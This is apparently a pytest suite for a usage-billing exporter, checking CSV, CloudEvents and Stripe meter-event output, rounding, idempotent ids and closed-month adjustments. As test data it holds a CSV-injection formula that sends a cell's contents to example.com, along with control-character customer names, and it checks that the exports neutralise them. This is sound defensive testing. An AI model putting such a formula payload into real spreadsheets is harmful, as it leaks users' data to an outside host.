"""`tokenledger export usage`: a month's chargeback as CSV statement lines, CloudEvents 1.0 and Stripe meter events, on a
real pipeline run (a real DuckDB warehouse built by the Dagster assets), through the real command line.

What the files are checked against:
- CloudEvents 1.0: the specification's JSON schema, tests/fixtures/cloudevents/cloudevents.json (origin in the README
  beside it), `time` as RFC 3339 and `source` as a URI reference (RFC 3986).
- OpenMeter, which ingests them (https://openmeter.io/docs/concepts/usage-events, github.com/openmeterio/openmeter
  docs/event-ingestion.md): `type` selects the meter, `subject` is who is metered, the meter's valueProperty reads a
  number or a numeric string from `data`, and `source` + `id` deduplicate.
- Stripe billing meter events (https://docs.stripe.com/api/billing/meter-event/object and its create parameters):
  event_name (at most 100 characters), identifier (at most 100), timestamp (Unix seconds, the past 35 days), payload
  {stripe_customer_id, value} with string values.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
import uuid
from decimal import Decimal
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest
from helpers import envelope, land
from jsonschema import Draft7Validator

from pipelines.cli.main import main
from pipelines.finance.usage_export import UsageExportError, export_usage
from pipelines.ingest.privacy import create_key
from pipelines.runner import run_pipeline
from pipelines.storage.database import sql_text
from pipelines.storage.home import Home
from pipelines.storage.money import define_money_macros

SCHEMA = json.loads((Path(__file__).resolve().parent / "fixtures" / "cloudevents" / "cloudevents.json").read_text(encoding="utf-8"))

# List prices (pricing/list/openai.yaml): gpt-4o-2024-08-06 $2.50 in / $10 out per 1M; gpt-4o-mini-2024-07-18 $0.15 / $0.60.
# 1,000 input + 100 output tokens: gpt-4o 0.0035 USD a request, gpt-4o-mini 0.00021 USD; 1,100 tokens each.
USAGE = {"prompt_tokens": 1000, "completion_tokens": 100}
GPT4O, MINI = "gpt-4o-2024-08-06", "gpt-4o-mini-2024-07-18"
DAYS = [dt.date(2026, 10, 20) + dt.timedelta(days=n) for n in range(4)]
CHARGEBACK = """\
unpriced: separate
payers:
  acme:
    match: {customer_id: acme}
    stripe_customer_id: cus_Acme01
    rule: cost_plus
    markup_pct: 20
    included: {requests: 25}
  search-team:
    match: {tags: {team: search}}
    currency: EUR
    stripe_customer_id: cus_Search01
    rule: per_mtok
    per_mtok: {small: 1, default: 3}
  globex:
    match: {customer_id: globex}
    rule: cost_plus
    markup_pct: 0
"""
# EUR from Oct 1 only: the search team's September has no rate, so its statement is blocked.
RATES = "date,currency,rate\n2026-10-01,EUR,0.9\n"
CSV_COLUMNS = [
    "statement_id", "payer", "period", "line_type", "status", "feature", "provider", "model", "service_tier", "model_tier", "rule",
    "currency", "requests", "input_tokens", "cache_read_tokens", "cache_write_5m_tokens", "cache_write_1h_tokens", "output_tokens",
    "reasoning_tokens", "audio_input_tokens", "audio_output_tokens", "image_input_tokens", "image_output_tokens", "tokens", "outcomes", "cost_usd", "cost", "allowance_unit",
    "allowance", "units", "included_units", "gross_charge", "charge", "problem",
]
# A feature name a spreadsheet would run (OWASP "CSV Injection" example): CSV exports must write it as text.
FORMULA = "=HYPERLINK(\"https://example.com/?leak=\"&A1,\"details\")"
RFC3339 = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$")
# RFC 3986: a URI reference is made of these characters; a relative reference's first segment has no ':'.
URI_REFERENCE = re.compile(r"^([A-Za-z][A-Za-z0-9+.-]*:|[^:/?#]*(?=/|$))?[A-Za-z0-9\-._~!$&'()*+,;=:@/?#%\[\]]*$")


def _quiet(_: str) -> None:
    return None


def _request(request_id: str, customer: str, model: str, day: dt.date, minute: int, **fields) -> str:
    return envelope(request_id, "openai", model, USAGE, timestamp=f"{day}T08:{minute:02d}:00Z", customer_id=customer, **fields)


def _requests() -> list[str]:
    lines = []
    for day in DAYS:
        lines += [_request(f"acme_{day}_{n}", "acme", GPT4O, day, n) for n in range(10)]
        lines += [_request(f"search_{day}_{n}", "globex", MINI, day, 10 + n, feature="search", tags={"team": "search"}) for n in range(5)]
    lines.append(envelope("globex_unknown", "openai", "gpt-9-unknown", USAGE, timestamp="2026-10-21T10:00:00Z", customer_id="globex",
                          feature=FORMULA))
    september = dt.date(2026, 9, 15)
    lines += [_request(f"search_sep_{n}", "globex", MINI, september, n, feature="search", tags={"team": "search"}) for n in range(2)]
    november = dt.date(2026, 11, 2)
    lines += [_request(f"globex_nov_{n}", "globex", GPT4O, november, n) for n in range(2)]
    lines.append(_request("globex_nov_2", "globex", GPT4O, november, 2, feature=FORMULA))
    return lines


def _outcomes() -> str:
    """Two tickets resolved on Oct 21, both by acme's first request of the day."""
    return "".join(
        json.dumps({"outcome_id": f"o{n}", "timestamp": "2026-10-21T12:00:00Z", "outcome_type": "ticket_resolved",
                    "feature": "support_chat", "request_id": "acme_2026-10-21_0"}) + "\n"
        for n in range(2)
    )


@pytest.fixture(scope="module")
def home(tmp_path_factory) -> Home:
    home = Home.at(tmp_path_factory.mktemp("usage_export") / "home").ensure()
    create_key(home.secrets)
    land(home, "requests.jsonl", _requests())
    (home.landing / "outcomes").mkdir(parents=True, exist_ok=True)
    (home.landing / "outcomes" / "october.jsonl").write_text(_outcomes())
    (home.landing / "fx").mkdir(parents=True, exist_ok=True)
    (home.landing / "fx" / "rates.csv").write_text(RATES)
    (home.root / "chargeback.yaml").write_text(CHARGEBACK)
    run_pipeline(home, progress=_quiet)
    return home


def _export(home: Home, out: Path, fmt: str, month: str = "2026-10", *extra: str) -> int:
    return main(["export", "usage", "--month", month, "--format", fmt, "--out", str(out), "--home", str(home.root), *extra])


def _jsonl(path: Path) -> list[dict]:
    text = path.read_text(encoding="utf-8")
    assert text.endswith("\n")
    return [json.loads(line) for line in text.splitlines()]


def _query(home: Home, sql: str) -> list[tuple]:
    with duckdb.connect(str(home.warehouse), read_only=True) as con:
        return con.execute(sql).fetchall()


def test_every_cloudevents_line_is_a_valid_cloudevent(home, tmp_path, capsys):
    out = tmp_path / "events" / "october.jsonl"  # the folder does not exist yet
    assert _export(home, out, "cloudevents") == 0
    printed = capsys.readouterr().out
    events = _jsonl(out)
    validator = Draft7Validator(SCHEMA, format_checker=Draft7Validator.FORMAT_CHECKER)
    for event in events:
        errors = [error.message for error in validator.iter_errors(event)]
        assert errors == [], (event, errors)
        assert list(event) == ["specversion", "id", "source", "type", "subject", "time", "datacontenttype", "data"]
        assert event["specversion"] == "1.0" and event["datacontenttype"] == "application/json"
        assert RFC3339.match(event["time"]) and dt.datetime.fromisoformat(event["time"]).utcoffset() == dt.timedelta(0)
        assert URI_REFERENCE.match(event["source"]), event["source"]
        meter = event["type"].removeprefix("tokenledger.usage.")
        assert meter in ("requests", "tokens", "outcomes", "charge")
        value = event["data"]["value"]
        # OpenMeter reads a number or a numeric string: counts are JSON integers, the charge a decimal string.
        if meter == "charge":
            assert isinstance(value, str) and re.fullmatch(r"-?\d+\.\d{2}", value) and Decimal(value) != 0
            assert event["data"]["unit"] == event["data"]["currency"]
        else:
            assert type(value) is int and value > 0 and event["data"]["unit"] == meter
        assert event["data"]["statement_id"] == f"CB-2026-10-{event['subject']}" and event["data"]["period"] == "2026-10"
    assert len({(event["source"], event["id"]) for event in events}) == len(events)  # ids are unique within the file
    # acme: 4 days x (requests, tokens) + the outcomes of Oct 21 + a charge on Oct 22 and 23; the search team: 4 x 2 +
    # 2 charges; globex has only an unpriced request: no event. 11 + 10 = 21.
    assert len(events) == 21
    assert [e["time"][:10] for e in events if e["subject"] == "acme" and e["type"].endswith("outcomes")] == ["2026-10-21"]
    assert f"wrote 21 CloudEvents 1.0 events (JSON Lines) of 2026-10 to {out.resolve()}: " \
           "8 requests, 8 tokens, 1 outcomes, 4 charge" in printed
    assert "charge 0.02 EUR, 0.06 USD: equals the charge of the month's 3 draft statements" in printed
    assert "warning: 2026-10 is not closed" in printed


def test_a_subject_holds_no_control_character_and_two_payers_never_share_one(tmp_path):
    """A payer split by customer takes its name from the data: `acme:a<LF>b` was the subject as it was, though a
    CloudEvents string may not hold U+0000-U+001F (and a CR or LF breaks the `ce-subject` header of an HTTP event)."""
    home = Home.at(tmp_path / "home").ensure()
    create_key(home.secrets)
    customers = ["a\nb", "a%0Ab", "\x1b[2Jc\x00"]
    land(home, "r.jsonl", [_request(f"r{n}", customer, GPT4O, DAYS[0], n) for n, customer in enumerate(customers)])
    (home.root / "chargeback.yaml").write_text("payers:\n  each-customer:\n    match: {feature: support_chat}\n    each: customer_id\n"
                                               "    rule: cost_plus\n    markup_pct: 0\n")
    run_pipeline(home, progress=_quiet)
    out = tmp_path / "events.jsonl"
    assert _export(home, out, "cloudevents") == 0
    events = _jsonl(out)
    validator = Draft7Validator(SCHEMA, format_checker=Draft7Validator.FORMAT_CHECKER)
    assert [error.message for event in events for error in validator.iter_errors(event)] == []
    subjects = {event["subject"] for event in events}
    assert subjects == {"each-customer:a%0Ab", "each-customer:a%250Ab", "each-customer:%1B[2Jc%00"}
    assert {event["data"]["statement_id"] for event in events} == {f"CB-2026-10-each-customer:{c}" for c in customers}


def test_the_days_charges_add_up_to_each_statement(home, tmp_path):
    out = tmp_path / "october.jsonl"
    assert _export(home, out, "cloudevents") == 0
    charges = {(e["subject"], e["time"][:10]): e["data"]["value"] for e in _jsonl(out) if e["type"] == "tokenledger.usage.charge"}
    # acme: cost_plus +20%, 10 gpt-4o requests a day = 0.042 before the allowance; 25 requests included: Oct 20 and 21
    # wholly, Oct 22 half. Exact charges 0, 0, 0.021, 0.042; running 0.021 -> 0.02, 0.063 -> 0.06: Oct 22 0.02, Oct 23 0.04.
    # search team: 5 mini requests x 1,100 tokens = 5,500 tokens a day at EUR 1 per 1M (small) = 0.0055 a day; running
    # 0.0055 -> 0.01, 0.011 -> 0.01, 0.0165 -> 0.02, 0.022 -> 0.02: 0.01 on Oct 20 and 22, none on Oct 21 and 23
    # (each day rounded alone would bill 4 x 0.01 = 0.04 for a statement of 0.02).
    assert charges == {("acme", "2026-10-22"): "0.02", ("acme", "2026-10-23"): "0.04",
                       ("search-team", "2026-10-20"): "0.01", ("search-team", "2026-10-22"): "0.01"}
    # The ids are a promise to the billing system that has them: uuid5 of the statement, the day and the meter, forever.
    ids = {(e["subject"], e["time"][:10], e["type"]): e["id"] for e in _jsonl(out)}
    assert ids["acme", "2026-10-22", "tokenledger.usage.charge"] == "4ae2c414-72a5-5f79-a56e-3a6c62ff48c1"
    namespace = uuid.uuid5(uuid.NAMESPACE_URL, "tokenledger:usage-export")
    assert ids["acme", "2026-10-22", "tokenledger.usage.charge"] == str(uuid.uuid5(namespace, "CB-2026-10-acme/2026-10-22/charge"))
    statements = dict(_query(home, "select payer, charge from marts.chargeback_statements where period = '2026-10'"))
    assert statements == {"acme": Decimal("0.06"), "search-team": Decimal("0.02"), "globex": Decimal(0)}
    for payer, charge in statements.items():
        assert sum((Decimal(v) for (p, _), v in charges.items() if p == payer), Decimal(0)) == charge
    counted = _query(home, "select payer, requests, tokens, outcomes from marts.chargeback_statements "
                           "where period = '2026-10' and requests > 0")
    for payer, requests, tokens, outcomes in counted:
        for meter, total in (("requests", requests), ("tokens", tokens), ("outcomes", outcomes)):
            assert sum(e["data"]["value"] for e in _jsonl(out) if e["subject"] == payer and e["type"].endswith(meter)) == total


def test_every_stripe_line_has_exactly_the_documented_fields(home, tmp_path, capsys):
    out = tmp_path / "stripe.jsonl"
    assert _export(home, out, "stripe") == 0
    printed = capsys.readouterr().out
    events = _jsonl(out)
    for event in events:
        assert set(event) == {"event_name", "identifier", "timestamp", "payload"}
        assert isinstance(event["event_name"], str) and 1 <= len(event["event_name"]) <= 100
        assert isinstance(event["identifier"], str) and 1 <= len(event["identifier"]) <= 100
        assert type(event["timestamp"]) is int and event["timestamp"] % 86400 == 0  # the day's start, UTC
        assert set(event["payload"]) == {"stripe_customer_id", "value"}
        assert all(isinstance(value, str) for value in event["payload"].values())  # Stripe's payload values are strings
        assert re.fullmatch(r"[1-9]\d*", event["payload"]["value"])  # a positive whole number of minor units
    assert len({event["identifier"] for event in events}) == len(events)
    # uuid5(namespace, 'stripe/tokenledger_charge/CB-2026-10-acme/2026-10-22'): the same for every export of the month.
    assert events[0]["identifier"] == "aa4e1914-cdd8-5ae6-aa3d-cb6fd80bec87"
    sent = [(e["payload"]["stripe_customer_id"], dt.datetime.fromtimestamp(e["timestamp"], dt.timezone.utc).date().isoformat(),
             e["payload"]["value"], e["event_name"]) for e in events]
    # The charges of the CloudEvents test in cents (USD for acme, EUR for the search team); globex is charged nothing,
    # so its missing stripe_customer_id does not matter.
    assert sent == [("cus_Acme01", "2026-10-22", "2", "tokenledger_charge"), ("cus_Acme01", "2026-10-23", "4", "tokenledger_charge"),
                    ("cus_Search01", "2026-10-20", "1", "tokenledger_charge"), ("cus_Search01", "2026-10-22", "1", "tokenledger_charge")]
    assert "wrote 4 Stripe meter events (JSON Lines) of 2026-10" in printed
    assert "charge 0.02 EUR, 0.06 USD: equals the charge of the month's 3 draft statements" in printed


def test_the_stripe_event_name_is_chosen_and_checked(home, tmp_path, capsys):
    default, named = tmp_path / "default.jsonl", tmp_path / "named.jsonl"
    assert _export(home, default, "stripe") == 0
    assert _export(home, named, "stripe", "2026-10", "--event-name", "ai_charge_cents") == 0
    assert {e["event_name"] for e in _jsonl(named)} == {"ai_charge_cents"}
    # Another meter, other identifiers: the same usage sent to the right meter after a wrong one is not a duplicate.
    assert not {e["identifier"] for e in _jsonl(named)} & {e["identifier"] for e in _jsonl(default)}
    capsys.readouterr()
    assert _export(home, tmp_path / "long.jsonl", "stripe", "2026-10", "--event-name", "x" * 101) == 2
    assert "--event-name: Stripe's event_name is 1-100 characters" in capsys.readouterr().err
    assert _export(home, tmp_path / "csv.csv", "csv", "2026-10", "--event-name", "ai_charge_cents") == 2
    assert "--event-name names a Stripe meter: use it with --format stripe" in capsys.readouterr().err
    assert not (tmp_path / "long.jsonl").exists() and not (tmp_path / "csv.csv").exists()


def test_the_stripe_window_is_35_days(home, tmp_path):
    out = tmp_path / "stripe.jsonl"
    early = export_usage(home, "2026-10", "stripe", out, now=dt.datetime(2026, 11, 3, tzinfo=dt.timezone.utc))
    assert not [w for w in early.warnings if "35 days" in w]
    late = export_usage(home, "2026-10", "stripe", out, now=dt.datetime(2026, 11, 26, 12, tzinfo=dt.timezone.utc))
    # 35 days before Nov 26 12:00 is Oct 22 12:00: the events of Oct 20 and 22 (search team) and Oct 22 (acme) are older.
    assert [w for w in late.warnings if "35 days" in w] == [
        "Stripe accepts meter events from the last 35 days only: 3 of the events of 2026-10 are dated before 2026-10-22 12:00 UTC "
        "and will be refused; bill those days with an invoice item instead"
    ]


@pytest.mark.parametrize("fmt", ["csv", "cloudevents", "stripe"])
def test_two_exports_of_a_month_are_byte_identical(home, tmp_path, fmt):
    first, second = tmp_path / "first", tmp_path / "again" / "second"
    assert _export(home, first, fmt) == 0
    assert _export(home, second, fmt) == 0
    assert first.read_bytes() == second.read_bytes()
    assert first.read_bytes()
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == ["first", "second"]  # no temporary file left


def test_the_csv_has_every_statement_line_with_decimal_text(home, tmp_path, capsys):
    out = tmp_path / "october.csv"
    assert _export(home, out, "csv") == 0
    printed = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows[0] == CSV_COLUMNS
    lines = [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]
    assert [(line["statement_id"], line["line_type"], line["status"]) for line in lines] == [
        ("CB-2026-10-acme", "usage", "draft"), ("CB-2026-10-globex", "unpriced", "draft"), ("CB-2026-10-search-team", "usage", "draft")
    ]
    acme, globex, search = lines
    # acme: 40 requests x 0.0035 = 0.14 USD; x 1.2 = 0.168 before the allowance; 25 of 40 requests included; 0.06 charged.
    assert {k: acme[k] for k in ("requests", "tokens", "outcomes", "cost_usd", "cost", "allowance_unit", "allowance", "units",
                                 "included_units", "gross_charge", "charge", "currency")} == {
        "requests": "40", "tokens": "44000", "outcomes": "2", "cost_usd": "0.14", "cost": "0.14", "allowance_unit": "requests",
        "allowance": "25", "units": "40", "included_units": "25", "gross_charge": "0.168", "charge": "0.06", "currency": "USD"}
    # the search team: 20 x 0.00021 = 0.0042 USD = 0.00378 EUR at 0.9; 22,000 tokens at EUR 1 per 1M = 0.022 -> 0.02.
    assert (search["currency"], search["cost_usd"], search["cost"], search["gross_charge"], search["charge"]) == (
        "EUR", "0.0042", "0.00378", "0.022", "0.02")
    assert (globex["requests"], globex["cost_usd"], globex["charge"], globex["model"]) == ("1", "", "", "gpt-9-unknown")
    for line in lines:  # plain decimal text: no float, no exponent
        for column in ("cost_usd", "cost", "allowance", "units", "included_units", "gross_charge", "charge"):
            assert line[column] == "" or re.fullmatch(r"-?\d+(\.\d+)?", line[column]), (column, line[column])
    assert f"wrote 3 statement lines (CSV) of 2026-10 to {out.resolve()}: 2 usage, 1 unpriced" in printed


def test_csv_exports_write_formula_like_text_as_text(home, tmp_path):
    """A cell starting with = + - @ (or tab, CR, LF) is run by Excel, LibreOffice and Google Sheets; both CSV exports
    prefix such text with a single quote (OWASP, "CSV Injection"), while negative numbers stay numbers."""
    usage, focus = tmp_path / "usage.csv", tmp_path / "focus.csv"
    assert _export(home, usage, "csv") == 0
    assert main(["export", "focus", "--out", str(focus), "--home", str(home.root)]) == 0
    for out in (usage, focus):
        cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for cell in row]
        assert "'" + FORMULA in cells, out.name
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r") or re.match(r"-[^\d]", cell)], out.name
    lines = list(csv.DictReader(io.StringIO(usage.read_text(encoding="utf-8"))))
    assert [line["feature"] for line in lines if line["payer"] == "globex"] == ["'" + FORMULA]


def test_a_month_with_a_blocked_statement_is_refused(home, tmp_path, capsys):
    out = tmp_path / "september.jsonl"
    for fmt in ("csv", "cloudevents", "stripe"):
        assert _export(home, out, fmt, "2026-09") == 2
        err = capsys.readouterr().err
        assert err.startswith(
            "tokenledger: 2026-09 has chargeback statements that cannot be issued (CB-2026-09-search-team: no_fx_rate:EUR)")
        assert len(err.strip().splitlines()) == 1
    assert not out.exists()


def test_stripe_refuses_a_charged_payer_without_a_customer_id(home, tmp_path, capsys):
    # globex, November: 3 gpt-4o requests at cost (0.0105 -> 0.01 USD), and chargeback.yaml gives it no stripe_customer_id.
    out = tmp_path / "november.jsonl"
    assert _export(home, out, "stripe", "2026-11") == 2
    assert capsys.readouterr().err.strip() == (
        "tokenledger: no stripe_customer_id in chargeback.yaml for the payers charged in 2026-11: globex (0.01 USD); add one to "
        "each payer (stripe_customer_id: cus_...)"
    )
    assert not out.exists()
    assert _export(home, out, "cloudevents", "2026-11") == 0  # CloudEvents name the payer itself
    assert [(e["subject"], e["type"], e["data"]["value"]) for e in _jsonl(out) if e["type"].endswith("charge")] == [
        ("globex", "tokenledger.usage.charge", "0.01")
    ]


def test_what_cannot_be_exported_says_why(home, tmp_path, capsys):
    assert _export(home, tmp_path / "x", "csv", "2026-08") == 2
    err = capsys.readouterr().err
    assert f"tokenledger: no chargeback statements for 2026-08: no payer of {home.root / 'chargeback.yaml'} has usage" in err
    with pytest.raises(SystemExit) as exited:
        _export(home, tmp_path / "x", "csv", "2026-13")
    assert exited.value.code == 2
    assert "not a month (YYYY-MM): '2026-13'" in capsys.readouterr().err
    with pytest.raises(UsageExportError, match=r"not a month \(YYYY-MM\): '2026-1'"):
        export_usage(home, "2026-1", "csv", tmp_path / "x")
    empty = Home.at(tmp_path / "empty")
    assert _export(empty, tmp_path / "x", "csv") == 2
    assert "there is no warehouse at" in capsys.readouterr().err
    assert not (tmp_path / "x").exists()


def test_a_closed_month_exports_the_same_bytes_after_late_usage(home, tmp_path, capsys):
    closed = Home(tmp_path / "closed")
    shutil.copytree(home.root, closed.root)
    draft_ids = [e["id"] for e in _jsonl(_written(closed, tmp_path / "draft.jsonl", "cloudevents"))]
    assert main(["close", "2026-10", "--home", str(closed.root)]) == 0
    before = {fmt: _written(closed, tmp_path / f"before.{fmt}", fmt).read_bytes() for fmt in ("csv", "cloudevents", "stripe")}
    events = [json.loads(line) for line in before["cloudevents"].decode().splitlines()]
    assert [e["id"] for e in events] == draft_ids  # the ids do not change when the month is closed
    assert {e["data"]["status"] for e in events} == {"final"}

    # A late acme request on Oct 23 (after the allowance ran out: 0.0042 USD) lands after the close.
    land(closed, "late.jsonl", [_request("late_1", "acme", GPT4O, DAYS[3], 59)])
    run_pipeline(closed, progress=_quiet)
    capsys.readouterr()
    for fmt in ("cloudevents", "stripe"):
        assert _written(closed, tmp_path / f"after.{fmt}", fmt).read_bytes() == before[fmt]  # the final statement did not change
    printed = capsys.readouterr().out
    assert "1 adjustment line(s) since the close, credit or debit (0.01 USD), are not meter events" in printed
    after = list(csv.DictReader(io.StringIO(_written(closed, tmp_path / "after.csv", "csv").read_text(encoding="utf-8"))))
    # The month is worth 0.063 + 0.0042 = 0.0672 -> 0.07 now against 0.06 stated: a debit of 0.01 on CB-2026-10-acme-ADJ.
    assert [(r["statement_id"], r["line_type"], r["status"], r["requests"], r["charge"]) for r in after] == [
        ("CB-2026-10-acme", "usage", "final", "40", "0.06"), ("CB-2026-10-acme-ADJ", "debit", "draft", "1", "0.01"),
        ("CB-2026-10-globex", "unpriced", "final", "1", ""), ("CB-2026-10-search-team", "usage", "final", "20", "0.02"),
    ]
    assert before["csv"].decode().count("\n") == 4  # header and the three final lines

    # A 50% OpenAI discount re-priced over the month: the month is now worth less than stated, a credit. Its negative
    # amounts are numbers in the CSV: they were text ('-0.03, the formula guard) and the export failed reading them back.
    (closed.root / "price_overrides.yaml").write_text(
        "overrides:\n  - id: openai-half\n    provider: openai\n    effective_from: 2026-01-01\n    discount_pct: 50\n")
    run_pipeline(closed, start=DAYS[0], end=DAYS[3], progress=_quiet)
    credited = list(csv.DictReader(io.StringIO(_written(closed, tmp_path / "credit.csv", "csv").read_text(encoding="utf-8"))))
    adjustments = [(r["statement_id"], r["line_type"], r["charge"]) for r in credited if r["line_type"] not in ("usage", "unpriced")]
    # acme: 0.0672 USD of usage at half price is 0.0336 -> 0.03 against 0.06 stated
    assert ("CB-2026-10-acme-ADJ", "credit", "-0.03") in adjustments, adjustments
    negative = [r[column] for r in credited for column in ("charge", "cost", "cost_usd") if r[column].startswith(("-", "'"))]
    assert negative and all(re.fullmatch(r"-\d+(\.\d+)?", amount) for amount in negative), negative


def _written(home: Home, out: Path, fmt: str) -> Path:
    assert _export(home, out, fmt) == 0
    return out


# The SQL on hand-made rows (as in tests/sql): currencies with no minor unit and with three decimals, a closed month.

MONEY = pa.decimal128(38, 15)
USAGE_ROWS = pa.schema([("statement_id", pa.string()), ("payer", pa.string()), ("period", pa.string()), ("event_date", pa.date32()),
                        ("currency", pa.string()), ("currency_places", pa.int32()), ("priced", pa.bool_()), ("requests", pa.int64()),
                        ("tokens", pa.int64()), ("outcomes", pa.int64()), ("charge", MONEY)])
FROZEN_ROWS = pa.schema([*USAGE_ROWS, ("month", pa.string()), ("closed_at", pa.timestamp("us", tz="UTC"))])
COUNTS = ("requests", "input_tokens", "cache_read_tokens", "cache_write_5m_tokens", "cache_write_1h_tokens", "output_tokens",
          "reasoning_tokens", "audio_input_tokens", "audio_output_tokens", "image_input_tokens", "image_output_tokens", "tokens", "outcomes")
AMOUNTS = ("cost_usd", "cost", "allowance", "units", "included_units", "gross_charge", "charge")
LINE_ROWS = pa.schema([(name, pa.int64() if name in COUNTS else MONEY if name in AMOUNTS else pa.string()) for name in CSV_COLUMNS]
                      + [("currency_places", pa.int32())])


@pytest.fixture
def con():
    with duckdb.connect() as con:
        con.execute("set TimeZone = 'UTC'")
        define_money_macros(con)
        for schema in ("marts", "finance"):
            con.execute(f"create schema {schema}")
        yield con


def _usage(payer: str, currency: str, places: int, charges: list[str], month: str = "2026-10") -> list[dict]:
    return [{"statement_id": f"CB-{month}-{payer}", "payer": payer, "period": month, "event_date": dt.date(2026, 10, 1 + n),
             "currency": currency, "currency_places": places, "priced": True, "requests": 1, "tokens": 10, "outcomes": 0,
             "charge": Decimal(charge)} for n, charge in enumerate(charges)]


def _table(con, name: str, rows: list[dict], schema: pa.Schema = USAGE_ROWS) -> None:
    con.register("_rows", pa.Table.from_pylist(rows, schema=schema))
    con.execute(f"create or replace table {name} as select * from _rows")
    con.unregister("_rows")


def test_days_round_cumulatively_in_each_currencys_minor_unit(con):
    # JPY (no minor unit): 0.5 a day -> running 0.5 -> 1, 1.0 -> 1, 1.5 -> 2 (half away from zero): 1, 0, 1 = round(1.5).
    # KWD (3 decimals): 0.0005 a day -> 0.001, 0.001, 0.002: 1, 0, 1 thousandths.
    _table(con, "marts.chargeback_usage", _usage("kaiju", "JPY", 0, ["0.5"] * 3) + _usage("kuwait", "KWD", 3, ["0.0005"] * 3))
    _table(con, "finance.chargeback_usage", [], FROZEN_ROWS)
    con.execute("create table finance.closed_periods (month varchar)")
    rows = con.execute(sql_text("queries/usage_export_days"), {"month": "2026-10"}).fetchall()
    assert [(row[1], row[3].day, row[-1]) for row in rows] == [("kaiju", 1, 1), ("kaiju", 2, 0), ("kaiju", 3, 1),
                                                                ("kuwait", 1, 1), ("kuwait", 2, 0), ("kuwait", 3, 1)]


def test_a_closed_month_is_read_from_its_frozen_rows(con):
    closed_at = dt.datetime(2026, 11, 2, tzinfo=dt.timezone.utc)
    frozen = [row | {"month": "2026-10", "closed_at": closed_at} for row in _usage("acme", "USD", 2, ["0.05"])]
    _table(con, "finance.chargeback_usage", frozen, FROZEN_ROWS)
    _table(con, "marts.chargeback_usage", _usage("acme", "USD", 2, ["0.05", "0.07"]))  # a late day, after the close
    con.execute("create table finance.closed_periods as select '2026-10' as month")
    rows = con.execute(sql_text("queries/usage_export_days"), {"month": "2026-10"}).fetchall()
    assert [(row[3].day, row[-1]) for row in rows] == [(1, 5)]


def test_csv_amounts_are_decimal_text_with_the_currencys_decimals(con):
    base = {name: None for name in CSV_COLUMNS} | {"payer": "p", "period": "2026-10", "line_type": "usage", "provider": "openai",
                                                    "model": "m", "service_tier": "standard"}

    def line(statement: str, currency: str, places: int, charge: str, cost: str) -> dict:
        return base | {"statement_id": statement, "currency": currency, "currency_places": places, "charge": Decimal(charge),
                       "cost": Decimal(cost)}

    lines = [line("CB-2026-10-a", "JPY", 0, "2", "2.1"), line("CB-2026-10-b", "KWD", 3, "1.234", "0"),
             line("CB-2026-10-c", "USD", 2, "0", "120"), line("CB-2026-10-d", "USD", 2, "-0.03", "-0.0700001")]
    _table(con, "marts.chargeback_lines", lines, LINE_ROWS)
    cursor = con.execute(sql_text("queries/usage_export_lines"), {"month": "2026-10"})
    assert [column[0] for column in cursor.description] == CSV_COLUMNS
    charge, cost = CSV_COLUMNS.index("charge"), CSV_COLUMNS.index("cost")
    assert [(row[0], row[charge], row[cost]) for row in cursor.fetchall()] == [
        ("CB-2026-10-a", "2", "2.1"), ("CB-2026-10-b", "1.234", "0"), ("CB-2026-10-c", "0.00", "120"),
        ("CB-2026-10-d", "-0.03", "-0.0700001"),
    ]
